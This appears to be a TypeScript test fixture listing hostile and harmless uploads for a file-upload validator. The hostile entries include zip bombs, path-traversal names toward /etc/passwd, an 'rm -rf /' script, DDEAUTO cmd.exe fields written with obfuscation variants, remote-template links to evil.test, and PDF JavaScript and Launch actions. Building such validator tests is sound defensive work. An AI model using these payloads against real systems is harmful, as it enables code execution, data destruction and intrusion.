import { deflateSync } from 'node:zlib';
import { DECEIVING_NAMES, INSIDE_ARCHIVES, TWO_MEANINGS } from './hostile-archives.ts';
import type { Upload } from './upload.ts';
import { zipFile, type ZippedFile } from '#tests/api/zip-file.ts';

const text = (words: string) => Buffer.from(words);
const hex = (written: string) => Buffer.from(written, 'hex');
const zip = (what: string, ...files: ZippedFile[]): Upload => ({
  what,
  name: 'a.zip',
  bytes: zipFile(files),
});
const file = (name: string, content: Buffer | string, more: Partial<ZippedFile> = {}): ZippedFile => ({
  name,
  content: Buffer.from(content),
  ...more,
});
const docx = (what: string, ...files: ZippedFile[]): Upload => {
  const parts = [file('[Content_Types].xml', '<Types/>'), file('word/document.xml', '<w/>'), ...files];
  return { what, name: 'a.docx', bytes: zipFile(parts) };
};
const relations = (what: string, written: Buffer | string, part = 'word/_rels/settings.xml.rels') =>
  docx(what, file(part, written));
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const outside = (type: string) =>
  `<Relationship Id="r1" Type="${OFFICE}/${type}" Target="http://evil.test/a" TargetMode="External"/>`;
const related = (...tags: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${tags.join('')}</Relationships>`;
const swapped = (words: string) => Buffer.from(`\uFEFF${words}`, 'utf16le').swap16();
const pdf = (what: string, ...objects: (Buffer | string)[]): Upload => {
  const parts = ['%PDF-1.7\n', ...objects, '\ntrailer<</Root 1 0 R>>\n%%EOF\n'];
  return { what, name: 'a.pdf', bytes: Buffer.concat(parts.map((part) => Buffer.from(part))) };
};
const packed = (objects: string, filter = '/Filter/FlateDecode') => {
  const bytes = deflateSync(objects);
  const head = `2 0 obj<</Type/ObjStm/N 1/First 4${filter}/Length ${bytes.length}>>stream\n`;
  return Buffer.concat([text(head), bytes, text('\nendstream\nendobj\n')]);
};
const nested = (depth: number): Buffer =>
  depth === 0 ? text('hola') : zipFile([{ name: 'otro.zip', content: nested(depth - 1) }]);
const MEGABYTES = (n: number) => Buffer.alloc(n * 1024 ** 2);
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000b49444154789c6360000200000500017a5eab3f0000000049454e44ae426082',
  'hex',
);
const bigPng = Buffer.from(PNG);
bigPng.writeUInt32BE(100_000, 16);
bigPng.writeUInt32BE(100_000, 20);

const field = (...pieces: string[]) =>
  `<w:fldChar w:fldCharType="begin"/>${pieces.map((one) => `<w:instrText>${one}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`;
/** Part of so many megabytes with an ordinary compression ratio. */
const long = (megabytes: number) =>
  `<a>${Array.from({ length: megabytes * 10_500 }, (_, n) => String(n).padEnd(100)).join('')}`;
const ZIPPED = zipFile([file('a.txt', 'x')]);
const ONE_PDF = pdf('').bytes;

/** Files to refuse: active content, archive bombs, or not what they claim to be. */
export const HOSTILE_UPLOADS: readonly Upload[] = [
  ...INSIDE_ARCHIVES,
  ...DECEIVING_NAMES,
  ...TWO_MEANINGS,
  zip('a bomb', file('a.txt', MEGABYTES(300))),
  zip('a bomb in pieces', ...Array.from({ length: 60 }, (_, i) => file(`${i}.txt`, MEGABYTES(2)))),
  zip('a bomb that says it is small', file('a.txt', MEGABYTES(50), { says: 10 })),
  zip('too many files', ...Array.from({ length: 1500 }, (_, i) => file(`${i}.txt`, 'x'))),
  zip('archives in archives in archives', file('b.zip', nested(4))),
  zip('a program', file('leeme.txt', Buffer.from('4d5a9000', 'hex'))),
  zip('a program of Linux', file('dato', Buffer.from('7f454c46', 'hex'))),
  zip('a script', file('dato', '#!/bin/sh\nrm -rf /')),
  zip('a program by its name', file('factura.pdf.exe', 'x')),
  zip('a name that ends in dots', file('factura.exe..', 'x')),
  zip('a page', file('aviso.html', '<script>')),
  zip('an old document', file('a.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex'))),
  zip('another archive', file('a.7z', Buffer.from('377abcaf271c', 'hex'))),
  zip('a way out of the folder', file('../../etc/passwd', 'x')),
  zip('a whole path', file('/etc/passwd', 'x')),
  zip('a path of Windows', file('..\\..\\a.txt', 'x')),
  zip('a link', file('a', '/etc/passwd', { mode: 0o120777 })),
  zip('a key', file('a.txt', 'x', { encrypted: true })),
  zip('a document with macros in it', file('b.docm', 'x'), file('word/vbaProject.bin', 'x')),
  docx('macros', file('word/vbaProject.bin', 'x')),
  docx('controls', file('word/activeX/activeX1.bin', 'x')),
  docx('a command in a field', file('word/footer1.xml', field(' DDEAUTO c:\\\\windows\\\\cmd.exe '))),
  docx('a command in pieces', file('word/footer1.xml', field(' DD', 'E&#65;UTO cmd '))),
  docx(
    'a text from elsewhere in a field',
    file('word/footer1.xml', '<w:fldSimple w:instr=" INCLUDETEXT http://evil.test "/>'),
  ),
  ...[
    '<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>',
    '<w:instrText>DDE<!-- -->AUTO cmd</w:instrText>',
    '<w:instrText a=">">DDEAUTO cmd</w:instrText>',
    '<w.ñ:instrText>DDEAUTO cmd</w.ñ:instrText>',
    '<w:instrText>DDEAUTO "fldChar"</w:instrText>',
    `<w:fldSimple a=" instr='" w:instr="DDEAUTO cmd" b="'"/>`,
  ].map((written) => docx('a command in a field written otherwise', file('word/a.xml', written))),
  docx('more fields than can be told', file('word/a.xml', field(' PAGE ').repeat(7000))),
  docx('a part that is too long', file('word/a.xml', long(9))),
  docx('parts that are too long', ...[1, 2, 3].map((n) => file(`word/${n}.xml`, long(6)))),
  docx('a program called a picture', file('word/media/image1.png', hex('4d5a9000'))),
  docx('a page called a part', file('word/chunk.html', '<script>')),
  docx('entities of its own', file('word/a.xml', '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>')),
  docx('a part that is no XML', file('word/a.xml', 'MZ')),
  relations('a control', related(`<Relationship Id="r1" Type="${OFFICE}/control" Target="a.xml"/>`)),
  relations('a chunk', related(`<Relationship Id="r1" Type="${OFFICE}/aFChunk" Target="a.xml"/>`)),
  relations(
    'an address inside',
    related(`<Relationship Id="r1" Type="${OFFICE}/image" Target="http://evil.test/a"/>`),
  ),
  relations(
    'a link that runs',
    related(outside('hyperlink').replace('http://evil.test/a', 'javascript:alert(1)')),
  ),
  relations(
    'a link to a network folder',
    related(outside('hyperlink').replace('http://evil', 'file://evil')),
  ),
  docx('what is put in', file('word/embeddings/oleObject1.bin', 'x')),
  relations('a template from elsewhere', related(outside('attachedTemplate'))),
  relations('an object from elsewhere', related(outside('oleObject')), 'word/_rels/document.xml.rels'),
  relations('a frame from elsewhere', related(outside('frame')), 'WORD/_RELS/webSettings.xml.RELS'),
  relations('a chapter from elsewhere', related(outside('subDocument'))),
  relations('a picture from elsewhere', related(outside('image')), 'word/_rels/header1.xml.rels'),
  relations('a template in other quotes', related(outside('attachedTemplate')).replaceAll('"', "'")),
  relations(
    'a template spelled out',
    related(outside('attachedTemplate').replace('External', '&#69;xtern&#x61;l')),
  ),
  relations('a template called a link twice', related(outside('attachedTemplate" x:Type="a/hyperlink'))),
  relations(
    'a template under a prefix',
    related(outside('attachedTemplate')).replaceAll(/(<\/?)(?=R)/g, '$1p:'),
  ),
  relations('a template in wide letters', Buffer.from(`\uFEFF${related(outside('oleObject'))}`, 'utf16le')),
  relations(
    'a template in swapped letters',
    swapped(related(outside('oleObject')).replace('UTF-8', 'UTF-16')),
  ),
  relations('a template in letters of its own', related(outside('oleObject')).replace('UTF-8', 'UTF-7')),
  relations('a template behind a comment', related('<!-- <a b=" -->', outside('frame'), '<!-- "> -->')),
  relations(
    'a template by an entity',
    `<!DOCTYPE a [<!ENTITY e "External">]>${related(outside('frame').replace('External', '&e;'))}`,
  ),
  zip('a document that brings something', file('a.docx', relations('', related(outside('frame'))).bytes)),
  pdf('a script', '1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  pdf('a script under another name', '1 0 obj<</OpenAction<</S/J#61vaScr#69pt/JS(x)>>>>endobj'),
  pdf('a script in packed objects', packed('1 0 <</OpenAction<</S/JavaScript/JS(x)>>>>')),
  pdf('objects packed otherwise', packed('1 0 <</S/JavaScript>>', '/Filter[/ASCIIHexDecode/FlateDecode]')),
  pdf('a program', '1 0 obj<</A<</S/Launch/F(cmd.exe)>>>>endobj'),
  pdf('a file in it', '1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj'),
  pdf('a form that sends', '1 0 obj<</A<</S/SubmitForm/F(http://evil.test)>>>>endobj'),
  pdf(
    'an address that opens',
    '1 0 obj<</OpenAction 2 0 R>>endobj\n2 0 obj<</S/URI/URI(http://evil.test)>>endobj',
  ),
  pdf('a key', 'trailer<</Encrypt 5 0 R>>'),
  pdf('a bomb of objects', packed('a'.repeat(64 * 1024 ** 2))),
  {
    what: 'a PDF that is a ZIP',
    name: 'a.pdf',
    bytes: Buffer.concat([text('%PDF-1.7\n%%EOF\n'), zipFile([file('a.txt', 'x')])]),
  },
  { what: 'a picture that is a ZIP', name: 'a.png', bytes: Buffer.concat([PNG, ZIPPED]) },
  { what: 'a picture that is a PDF', name: 'a.png', bytes: Buffer.concat([PNG, text('%PDF-1.7\n%%EOF\n')]) },
  { what: 'a picture that is an archive', name: 'a.png', bytes: Buffer.concat([PNG, hex('526172211a0700')]) },
  { what: 'a picture that was cut', name: 'a.png', bytes: PNG.subarray(0, PNG.length - 12) },
  { what: 'a picture without dots', name: 'a.png', bytes: PNG.subarray(0, 20) },
  { what: 'a PDF that is a picture', name: 'a.pdf', bytes: Buffer.concat([hex('ffd8ffe0'), ONE_PDF]) },
  { what: 'a PDF that is a program', name: 'a.pdf', bytes: Buffer.concat([hex('4d5a9000'), ONE_PDF]) },
  { what: 'too many values', name: 'a.json', bytes: text(`[${'{},'.repeat(300_000)}{}]`) },
  { what: 'a picture too big to open', name: 'a.png', bytes: bigPng },
];

/** Harmless files. */
export const GOOD_UPLOADS: readonly Upload[] = [
  zip('papers', file('recibo.txt', 'hola'), file('año 2026/', ''), file('año 2026/plano.png', PNG)),
  zip('a document', file('nota.docx', docx('').bytes)),
  zip('a long text', file('planilla.txt', 'mucho '.repeat(100_000))),
  docx('a document', file('word/styles.xml', '<s/>')),
  docx('a long document of many fields', file('word/a.xml', `${long(7)}${field(' PAGE ').repeat(3000)}`)),
  docx(
    'a document with links and parts',
    file(
      'word/_rels/document.xml.rels',
      related(
        outside('hyperlink'),
        `<Relationship Id="r2" Type="${OFFICE}/image" Target="media/año &amp; ruta.png"/>`,
        `<Relationship Id='r3' Type='${OFFICE}/styles' Target='styles.xml' TargetMode='Internal' />`,
      ),
    ),
    file('word/_rels/fontTable.xml.rels', Buffer.from(`\uFEFF${related()}`)),
  ),
  pdf('a page that opens at its top', '1 0 obj<</OpenAction[3 0 R/XYZ null null 0]>>endobj'),
  pdf('a page with an address', '1 0 obj<</A<</S/URI/URI(http://valle.test)>>>>endobj'),
  pdf('packed objects', packed('1 0 <</Type/Catalog>>')),
  { what: 'a picture', name: 'a.png', bytes: PNG },
  { what: 'a picture with something after it', name: 'a.png', bytes: Buffer.concat([PNG, text('<?php')]) },
  { what: 'a PDF with something before', name: 'a.pdf', bytes: Buffer.concat([text('\r\n\r\n'), ONE_PDF]) },
  zip(
    'a PDF',
    file('informe/nota.PDF', ONE_PDF),
    file('datos.json', '{"a":[1]}'),
    file('lote.csv', 'a;b\r\n'),
  ),
  zip(
    'what a Mac adds',
    file('nota.txt', 'x'),
    file('__MACOSX/._nota.txt', hex('0005160700020000')),
    file('.DS_Store', hex('0000000142756431')),
  ),
  zip(
    'names of people',
    file('Captura 10.30\u202Fa. m..txt', 'x'),
    file('nin\u0303o/ñandú (1) – copia.txt', 'x'),
  ),
  zip(
    'sizes after the content',
    file('a.txt', 'hola', { later: true }),
    file('b.txt', 'chau', { later: true }),
  ),
  docx(
    'a document with pictures and fields',
    file('word/media/image1.png', PNG),
    file('word/media/image2.jpeg', hex('ffd8ffe000104a464946')),
    file('docProps/thumbnail.emf', Buffer.concat([hex('01000000'), Buffer.alloc(36), text(' EMF')])),
    file('word/fonts/Roboto.ttf', hex('0001000000')),
    file('word/footer1.xml', `<w:p>${field(' PAGE ')}${field(' HYPERLINK "http://valle.test/link" ')}</w:p>`),
  ),
];
